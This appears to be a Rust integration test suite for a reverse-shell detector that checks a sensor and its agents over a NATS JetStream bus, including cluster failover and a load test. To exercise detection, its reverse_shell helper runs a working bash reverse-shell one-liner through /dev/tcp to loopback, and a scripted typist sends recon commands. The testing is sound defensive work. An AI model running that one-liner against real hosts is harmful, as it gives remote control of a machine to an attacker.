//! The fleet bus with a real nats-server: an agent publishes to JetStream, a live sensor
//! capturing on loopback follows it and attributes a real bash reverse shell, and
//! publishes its alerts and stats. Also: a sensor started after the agent, a three-node
//! cluster losing the node the sensor is connected to, and 200 simulated agents at once
//! (the sensor's CPU and memory are printed). Needs root (live capture) and nats-server;
//! set SHELLSIGHT_SKIP_PRIVILEGED=1 to skip when not root.

mod agent_support;
mod bus_support;
mod common;

use agent_support::privileged;
use bus_support::*;
use common::*;
use serde_json::Value;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Mutex;
use std::time::{Duration, Instant};

/// The tests capture live and time a typist: one at a time.
static SERIAL: Mutex<()> = Mutex::new(());

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("ss-bus-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn sensor(bus: &str, bpf: &str, secs: u32, alerts: &Path, extra: &[&str]) -> Child {
    Command::new(bin())
        .args(["sensor", "--interface", "lo", "--bpf", bpf, "--bus", bus, "--bus-name", "test-sensor"])
        .args(["--duration", &secs.to_string(), "--format", "json", "-o", alerts.to_str().unwrap(), "-v"])
        .args(extra)
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

fn agent(bus: &str, secs: u32, extra: &[&str]) -> Child {
    Command::new(bin())
        .args(["agent", "--bus", bus, "--interval", "500ms", "--duration", &secs.to_string()])
        .args(extra)
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

fn reverse_shell(port: u16) -> Child {
    Command::new("bash")
        .args(["-c", &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
        .stdin(Stdio::null())
        .spawn()
        .unwrap()
}

/// A person typing at the shell's listener (as `common::operator`, on an accepted stream).
fn type_commands(s: TcpStream) {
    type_commands_then(s, || {});
}

/// Types the commands, runs `linger` (the shell still open), then exits the shell.
fn type_commands_then(mut s: TcpStream, linger: impl FnOnce()) {
    s.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
    let mut sink = [0u8; 4096];
    for (cmd, think_ms) in
        [("id", 1500), ("whoami", 2300), ("uname -a", 1200), ("hostname", 3100), ("pwd", 1700)]
    {
        std::thread::sleep(Duration::from_millis(think_ms));
        s.write_all(format!("{cmd}\n").as_bytes()).unwrap();
        let _ = s.read(&mut sink);
    }
    std::thread::sleep(Duration::from_millis(800));
    linger();
    let _ = s.write_all(b"exit\n");
}

/// Runs a reverse shell against a typing listener on `port` and waits for it to end.
fn shell_session(port: u16) {
    shell_session_until(port, || true);
}

/// As [`shell_session`], but the typist keeps the shell open after its commands until
/// `done` holds (at most a minute), as an operator does.
fn shell_session_until(port: u16, done: impl Fn() -> bool + Send + 'static) {
    let listener = TcpListener::bind(("127.0.0.1", port)).unwrap();
    let typist = std::thread::spawn(move || {
        type_commands_then(listener.accept().unwrap().0, || {
            let until = Instant::now() + Duration::from_secs(60);
            while !done() && Instant::now() < until {
                std::thread::sleep(Duration::from_millis(250));
            }
        })
    });
    let mut shell = reverse_shell(port);
    typist.join().unwrap();
    let _ = shell.wait();
}

fn finish(child: Child, what: &str) -> String {
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(out.status.success(), "{what} failed: {err}");
    err
}

fn records(path: &Path) -> Vec<Value> {
    json_lines(&std::fs::read(path).unwrap_or_default())
}

fn alerts_on_port(records: &[Value], port: u16) -> Vec<&Value> {
    records
        .iter()
        .filter(|r| r["event"]["kind"] == "alert")
        .filter(|r| r["source"]["port"] == port || r["destination"]["port"] == port)
        .collect()
}

/// The alert naming the bash shell on `port`, at high with `stdio-socket`.
fn attributed<'a>(records: &'a [Value], port: u16, context: &str) -> &'a Value {
    let alerts = alerts_on_port(records, port);
    let a = alerts
        .iter()
        .find(|a| a["process"]["name"] == "bash")
        .unwrap_or_else(|| panic!("no alert on port {port} names the bash process: {alerts:?}\n{context}"));
    assert_eq!(a["shellsight"]["tier"], "high", "{a}");
    let reasons = a["shellsight"]["reasons"].as_array().unwrap();
    assert!(reasons.iter().any(|r| r == "stdio-socket"), "{reasons:?}");
    assert!(a["process"]["command_line"].as_str().unwrap().contains("bash --norc -i"));
    a
}

fn last_bus_stats(records: &[Value]) -> Value {
    records
        .iter()
        .rev()
        .find(|r| r["event"]["kind"] == "metric")
        .map(|r| r["shellsight"]["stats"]["bus"].clone())
        .expect("no stats record")
}

fn event_ids(alerts: &[&Value]) -> Vec<String> {
    alerts.iter().map(|a| a["event"]["id"].as_str().unwrap().to_string()).collect()
}

#[test]
fn an_agent_on_the_bus_attributes_a_live_shell_and_the_alert_is_published() {
    if !privileged() {
        return;
    }
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = temp_dir("live");
    let nats = Nats::single(&dir);
    let alerts = dir.join("alerts.jsonl");
    let port = free_port();
    let s = sensor(&nats.url(), &format!("tcp port {port}"), 26, &alerts, &[]);
    std::thread::sleep(Duration::from_millis(1500));
    let a = agent(&nats.url(), 23, &[]);
    std::thread::sleep(Duration::from_millis(1500));
    shell_session(port);
    let agent_err = finish(a, "agent");
    let err = finish(s, "sensor");

    let local = records(&alerts);
    let alert = attributed(&local, port, &err);
    assert!(alert["host"]["name"].is_string());
    let stats = last_bus_stats(&local);
    assert!(stats["hosts"].as_u64() >= Some(1), "the sensor holds no host state: {stats}");
    assert_eq!(stats["dropped"], 0, "{stats}");
    assert!(agent_err.contains("\"published\":"), "the agent printed no bus summary: {agent_err}");

    // What the sensor wrote locally is on the bus too, once.
    let published = read_stream(&nats.url(), "SHELLSIGHT_ALERTS");
    let on_bus: Vec<&Value> = published.iter().collect();
    let ids = event_ids(&on_bus);
    let local_ids = event_ids(&local.iter().filter(|r| r["event"]["kind"] == "alert").collect::<Vec<_>>());
    assert_eq!(ids, local_ids, "the bus and the local file differ");
    assert!(on_bus
        .iter()
        .any(|a| a["event"]["id"] == alert["event"]["id"] && a["process"]["name"] == "bash"));
    let stats_on_bus = read_stream(&nats.url(), "SHELLSIGHT_STATS");
    assert!(
        stats_on_bus
            .iter()
            .any(|r| r["event"]["kind"] == "metric" && r["shellsight"]["stats"]["bus"].is_object()),
        "no stats record on the bus"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_sensor_started_after_the_agent_attributes_from_the_stored_state() {
    if !privileged() {
        return;
    }
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = temp_dir("late");
    let nats = Nats::single(&dir);
    let alerts = dir.join("alerts.jsonl");
    let port = free_port();
    let a = agent(&nats.url(), 30, &[]);
    // The shell connects and the agent reports it before any sensor exists.
    let listener = TcpListener::bind(("127.0.0.1", port)).unwrap();
    let mut shell = reverse_shell(port);
    let conn = accept_within(&listener, 10);
    std::thread::sleep(Duration::from_secs(3));
    let s = sensor(&nats.url(), &format!("tcp port {port}"), 22, &alerts, &[]);
    std::thread::sleep(Duration::from_secs(2));
    type_commands(conn);
    let _ = shell.wait();
    let err = finish(s, "sensor");
    let _ = finish(a, "agent");

    let local = records(&alerts);
    attributed(&local, port, &err);
    let _ = std::fs::remove_dir_all(&dir);
}

fn accept_within(l: &TcpListener, secs: u64) -> TcpStream {
    agent_support::accept_within(l, secs)
}

#[test]
fn a_cluster_node_dies_under_the_sensor_and_nothing_is_duplicated_or_lost_uncounted() {
    if !privileged() {
        return;
    }
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = temp_dir("cluster");
    let mut nodes = cluster(&dir);
    let alerts = dir.join("alerts.jsonl");
    let (before, after) = (free_port(), free_port());
    let bpf = format!("tcp port {before} or tcp port {after}");
    // The sensor knows only node 0 (it learns the others from it); the agent uses node 2.
    // Both are stopped by SIGTERM once the second shell is over; the durations only
    // bound a hang.
    let s = sensor(&nodes[0].url(), &bpf, 240, &alerts, &["--bus-replicas", "3"]);
    std::thread::sleep(Duration::from_millis(1500));
    let a = agent(&nodes[2].url(), 240, &["--bus-replicas", "3"]);
    std::thread::sleep(Duration::from_millis(2000));

    shell_session(before);
    // Wait for the first shell's attributed alert, then take the sensor's node away.
    let until = Instant::now() + Duration::from_secs(12);
    while alerts_on_port(&records(&alerts), before).iter().all(|a| a["process"]["name"] != "bash") {
        assert!(Instant::now() < until, "the first shell was not attributed before the failover");
        std::thread::sleep(Duration::from_millis(200));
    }
    nodes[0].kill();
    eprintln!("killed {} (port {})", nodes[0].name, nodes[0].port);
    std::thread::sleep(Duration::from_secs(3));
    // When the dead node led the streams, JetStream answers nothing until the survivors
    // elect a new leader (about 20 s here), and a shell that ended meanwhile is gone from
    // every state the agent can still publish. Real shells last longer: this one stays
    // open until the sensor names it, or a minute.
    let watched = alerts.clone();
    let started = Instant::now();
    shell_session_until(after, move || {
        alerts_on_port(&records(&watched), after).iter().any(|a| a["process"]["name"] == "bash")
    });
    eprintln!("second shell open for {:.1} s", started.elapsed().as_secs_f64());
    std::thread::sleep(Duration::from_secs(2));
    for child in [a.id(), s.id()] {
        let _ = Command::new("kill").args(["-TERM", &child.to_string()]).status();
    }

    let agent_err = finish(a, "agent");
    let err = finish(s, "sensor");
    let local = records(&alerts);
    let context = format!("sensor:\n{err}\nagent:\n{agent_err}");
    attributed(&local, before, &context);
    attributed(&local, after, &context);
    let stats = last_bus_stats(&local);
    eprintln!("sensor bus counters after the failover: {stats}");
    eprintln!("agent: {}", agent_err.lines().filter(|l| l.contains("bus")).collect::<Vec<_>>().join("\n"));
    assert!(stats["reconnects"].as_u64() >= Some(1), "the sensor never reconnected: {stats}");

    let on_bus = read_stream(&nodes[1].url(), "SHELLSIGHT_ALERTS");
    let bus_ids = event_ids(&on_bus.iter().collect::<Vec<_>>());
    let mut unique = bus_ids.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), bus_ids.len(), "duplicated alerts on the bus: {bus_ids:?}");
    let local_ids = event_ids(&local.iter().filter(|r| r["event"]["kind"] == "alert").collect::<Vec<_>>());
    let missing: Vec<&String> = local_ids.iter().filter(|id| !bus_ids.contains(id)).collect();
    let dropped = stats["dropped"].as_u64().unwrap_or(0);
    assert!(
        missing.len() as u64 <= dropped,
        "alerts missing from the bus beyond the counted drops ({dropped}): {missing:?}"
    );
    assert!(bus_ids.iter().all(|id| local_ids.contains(id)), "the bus has alerts the sensor never wrote");
    let after_on_bus = alerts_on_port(&on_bus, after);
    assert!(
        after_on_bus.iter().any(|a| a["process"]["name"] == "bash"),
        "the shell after the failover is not attributed on the bus: {after_on_bus:?}"
    );
    eprintln!(
        "failover: {} alerts written, {} on the bus, {} dropped",
        local_ids.len(),
        bus_ids.len(),
        dropped
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn two_hundred_agents_publish_at_once_to_one_sensor() {
    if !privileged() {
        return;
    }
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    const AGENTS: usize = 200;
    const SOCKETS: usize = 50;
    const ROUNDS: usize = 15;
    let dir = temp_dir("fleet");
    let nats = Nats::single(&dir);
    let alerts = dir.join("alerts.jsonl");
    // A real record to copy: this test's own loopback connection, as the agent sees it.
    let template = agent_support::own_connection_record();

    // Its log goes to a file: nobody reads a pipe during the run.
    let log = std::fs::File::create(dir.join("sensor.log")).unwrap();
    let s = Command::new(bin())
        .args([
            "sensor",
            "--interface",
            "lo",
            "--bpf",
            "tcp port 9",
            "--bus",
            &nats.url(),
            // Stopped by SIGTERM once the agents are done; the duration only bounds a hang.
            "--duration",
            "600",
        ])
        .args(["--format", "json", "-o", alerts.to_str().unwrap()])
        .stderr(Stdio::from(log))
        .spawn()
        .unwrap();
    wait_stream(&nats.url(), "SHELLSIGHT_INVENTORY");
    let pid = s.id();
    let sampler = std::thread::spawn(move || {
        let mut samples = Vec::new();
        while let Some(u) = usage(pid) {
            samples.push((Instant::now(), u));
            std::thread::sleep(Duration::from_millis(500));
        }
        samples
    });
    let start_usage = usage(pid).unwrap();
    let started = Instant::now();
    let published = simulate_agents(&nats.url(), &template, AGENTS, SOCKETS, ROUNDS);
    let during = started.elapsed();
    // A slow machine can take longer than any fixed sensor duration, so the end is a signal.
    let end_usage = usage(pid).expect("the sensor exited before the agents were done");
    std::thread::sleep(Duration::from_secs(2));
    let _ = Command::new("kill").args(["-TERM", &pid.to_string()]).status();
    let status = { s }.wait().unwrap();
    let err = std::fs::read_to_string(dir.join("sensor.log")).unwrap_or_default();
    assert!(status.success(), "sensor failed: {err}");
    let samples = sampler.join().unwrap();
    let peak_rss = samples.iter().map(|(_, u)| u.1).max().unwrap_or(0);

    let cpu = end_usage.0 - start_usage.0;
    println!(
        "200 agents: {published} states of {SOCKETS} sockets in {:.1} s ({:.0} states/s, {:.0} sockets/s); \
         sensor CPU {:.2} s = {:.0} % of one core; peak RSS {} kB (before {} kB)",
        during.as_secs_f64(),
        published as f64 / during.as_secs_f64(),
        (published * SOCKETS) as f64 / during.as_secs_f64(),
        cpu,
        100.0 * cpu / during.as_secs_f64(),
        peak_rss,
        start_usage.2,
    );
    let stats = last_bus_stats(&records(&alerts));
    println!("sensor bus counters: {stats}");
    assert_eq!(stats["hosts"].as_u64(), Some(AGENTS as u64), "{stats}\n{err}");
    assert_eq!(stats["malformed"], 0, "{stats}");
    assert!(stats["received"].as_u64() >= Some(AGENTS as u64), "{stats}");
    let _ = std::fs::remove_dir_all(&dir);
}

fn wait_stream(url: &str, name: &str) {
    let (url, name) = (url.to_string(), name.to_string());
    runtime().block_on(async move {
        let js = async_nats::jetstream::new(async_nats::connect(url).await.unwrap());
        let until = Instant::now() + Duration::from_secs(20);
        while js.get_stream(&name).await.is_err() {
            assert!(Instant::now() < until, "the sensor did not create {name}");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    });
}

/// `agents` concurrent publishers, each a host with `sockets` connections, publishing
/// its whole state every second for `rounds` seconds. Returns the states stored.
fn simulate_agents(
    url: &str,
    template: &shellsight::inventory::InventoryRecord,
    agents: usize,
    sockets: usize,
    rounds: usize,
) -> usize {
    use shellsight::bus::HostState;
    use std::sync::Arc;
    let url = url.to_string();
    let template = template.clone();
    runtime().block_on(async move {
        let client = async_nats::connect(url).await.unwrap();
        let js = async_nats::jetstream::new(client);
        let mut tasks = Vec::new();
        for i in 0..agents {
            let js = js.clone();
            let mut t = template.clone();
            t.host.name = format!("sim-{i:03}");
            t.host.boot_id = format!("boot-{i:03}");
            let records: Vec<Arc<_>> = (0..sockets)
                .map(|k| {
                    let mut r = t.clone();
                    r.source.port = 20_000 + k as u16;
                    r.socket.inode = 1_000_000 + k as u64;
                    Arc::new(r)
                })
                .collect();
            tasks.push(tokio::spawn(async move {
                let mut stored = 0;
                for round in 0..rounds {
                    let state = HostState {
                        host: t.host.name.clone(),
                        boot_id: t.host.boot_id.clone(),
                        observed_ns: t.observed_ns + round as i64 * 1_000_000_000,
                        part: 0,
                        parts: 1,
                        records: records.clone(),
                        nat: Vec::new(),
                    };
                    let body = serde_json::to_vec(&state).unwrap();
                    let subject = format!("shellsight.inventory.{}.0", t.host.name);
                    if let Ok(ack) = js.publish(subject, body.into()).await {
                        if ack.await.is_ok() {
                            stored += 1;
                        }
                    }
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
                stored
            }));
        }
        let mut total = 0;
        for t in tasks {
            total += t.await.unwrap();
        }
        total
    })
}

#[test]
fn a_host_state_over_the_servers_payload_limit_is_published_in_parts_that_fit() {
    if !privileged() {
        return;
    }
    use shellsight::agent::InventorySink;
    use shellsight::bus::agent::BusSink;
    use shellsight::bus::{BusConfig, PART_BUDGET};
    use std::sync::Arc;
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = temp_dir("big-state");
    let nats = Nats::single(&dir);
    let template = agent_support::own_connection_record();
    // A host whose service has a long command line (a Java classpath, say): 1,000 sockets
    // of 3 kB each are about three times the server's 1 MiB payload limit.
    const SOCKETS: usize = 1000;
    let mut records: Vec<_> = (0..SOCKETS)
        .map(|k| {
            let mut r = template.clone();
            r.source.port = 20_000 + k as u16;
            r.socket.inode = 7_000_000 + k as u64;
            let p = Arc::make_mut(r.process.as_mut().expect("the template has its process"));
            p.args = vec!["java".into(), "-cp".into(), "lib/x.jar:".repeat(300)];
            Arc::new(r)
        })
        .collect();
    // And one record that alone is over the limit: left out and counted, not a stall.
    let mut huge = template.clone();
    huge.socket.inode = 8_000_000;
    Arc::make_mut(huge.process.as_mut().unwrap()).args = vec!["x".repeat(PART_BUDGET + 1)];
    records.push(Arc::new(huge));

    let cfg = BusConfig::resolve(&nats.url(), None, None, 1).unwrap();
    let mut sink = BusSink::start(cfg, "big-host".into(), "boot-big".into()).unwrap();
    assert!(sink.records(&records, true).unwrap());
    sink.close();

    let states: Vec<Value> = read_stream(&nats.url(), "SHELLSIGHT_INVENTORY")
        .into_iter()
        .filter(|m| m["host"] == "big-host")
        .collect();
    let parts = states.first().and_then(|s| s["parts"].as_u64()).expect("no state of big-host on the bus");
    assert!(parts >= 3, "a 3 MB state in {parts} parts");
    assert_eq!(states.len() as u64, parts, "every part is stored: {}", states.len());
    assert!(states.iter().all(|s| s["parts"] == parts && s["observed_ns"] == states[0]["observed_ns"]));
    let mut indexes: Vec<u64> = states.iter().map(|s| s["part"].as_u64().unwrap()).collect();
    indexes.sort_unstable();
    assert_eq!(indexes, (0..parts).collect::<Vec<_>>());
    let mut inodes: Vec<u64> = states
        .iter()
        .flat_map(|s| s["records"].as_array().unwrap().iter().map(|r| r["socket"]["inode"].as_u64().unwrap()))
        .collect();
    inodes.sort_unstable();
    let expected: Vec<u64> = (0..SOCKETS as u64).map(|k| 7_000_000 + k).collect();
    assert_eq!(inodes, expected, "all sockets but the oversized one, each once");
    println!("a {SOCKETS}-socket state of about 3 MB went out in {parts} parts");
    let _ = std::fs::remove_dir_all(&dir);
}
